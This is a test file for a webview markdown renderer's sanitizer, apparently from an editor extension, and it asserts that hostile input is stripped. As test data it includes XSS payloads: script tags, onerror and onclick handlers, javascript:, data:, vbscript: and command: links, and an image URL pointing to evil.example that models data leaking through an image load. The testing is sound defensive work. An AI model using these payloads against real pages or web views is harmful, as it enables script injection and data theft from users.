import assert from 'node:assert/strict';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { createMarkdownRenderer } from '../../../src/webview/markdown';
import { MAX_HIGHLIGHT_CHARS } from '../../../src/webview/highlight';

function renderer() {
  const { window } = new JSDOM('');
  return { md: createMarkdownRenderer(createDOMPurify(window)), window };
}

/** Parses the output so assertions look at the DOM a browser would build, not at substrings. */
function dom(html: string) {
  return new JSDOM(`<body>${html}</body>`).window.document.body;
}

describe('markdown sanitizer (hostile input)', () => {
  const { md } = renderer();

  it('never emits a script tag, raw or smuggled', () => {
    for (const input of ['<script>alert(1)</script>', '<scr<script>ipt>alert(1)</script>', '```html\n<script>alert(1)</script>\n```', '<svg><script>alert(1)</script></svg>']) {
      const body = dom(md.render(input));
      assert.equal(body.querySelectorAll('script, svg').length, 0, input);
    }
  });

  it('shows raw HTML as text instead of rendering it', () => {
    const body = dom(md.render('<b onclick="steal()">hi</b>'));
    assert.equal(body.querySelector('b'), null);
    assert.match(body.textContent ?? '', /<b onclick/);
  });

  it('keeps no event handler attribute anywhere', () => {
    const body = dom(md.render('[x](https://example.com "t\\" onmouseover=\\"alert(1)")\n\n<img src=x onerror=alert(1)>'));
    for (const el of body.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) assert.ok(!attr.startsWith('on'), `${el.tagName} has ${attr}`);
    }
  });

  it('removes javascript:, data:, vbscript: and command: links but keeps https', () => {
    const body = dom(md.render('[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x) [e](command:workbench.action.terminal.new) [f](https://example.com/ok)'));
    const hrefs = [...body.querySelectorAll('a')].map((a) => a.getAttribute('href')).filter((h) => h !== null);
    assert.deepEqual(hrefs, ['https://example.com/ok']);
    // The refused links may stay visible as text; what matters is that no attribute carries them.
    for (const el of body.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) assert.doesNotMatch(el.getAttribute(attr) ?? '', /javascript:|vbscript:|data:|command:/i);
    }
  });

  it('never loads an image: remote, data or autolinked', () => {
    const body = dom(md.render('![secret](https://evil.example/leak?d=abc) ![x](data:image/png;base64,AAAA) <https://evil.example/a.png>'));
    assert.equal(body.querySelectorAll('img, [src], [srcset]').length, 0);
    assert.match(body.textContent ?? '', /\[secret\]/);
  });

  it('highlights a known language and escapes code', () => {
    const body = dom(md.render('```ts\nconst a: number = 1; // <b>\n```'));
    assert.ok(body.querySelector('.bw-code pre code .hljs-keyword'), 'highlighted keyword');
    assert.equal(body.querySelector('code b'), null);
    assert.match(body.querySelector('code')?.textContent ?? '', /<b>/);
    assert.ok(body.querySelector('[data-code-action="apply"]'), 'apply button kept');
  });

  it('renders a huge code block escaped, without highlighting, in one piece', () => {
    const line = 'const x = "<script>alert(1)</script>";\n';
    const code = line.repeat(Math.ceil((MAX_HIGHLIGHT_CHARS * 3) / line.length));
    const body = dom(md.render('```js\n' + code + '```'));
    assert.equal(body.querySelectorAll('script').length, 0);
    assert.equal(body.querySelectorAll('code span').length, 0, 'not highlighted');
    assert.equal(body.querySelector('code')?.textContent, code);
  });

  it('drops data attributes a hostile document could not have produced through markdown anyway', () => {
    const out = md.sanitize('<div data-code-action="copy" data-evil="1" data-lang="x&quot;onload=1">x</div>');
    const el = dom(out).querySelector('div');
    assert.equal(el?.getAttribute('data-evil'), null);
    assert.equal(el?.getAttribute('data-code-action'), 'copy');
    assert.equal(el?.getAttribute('data-lang'), null);
  });
});
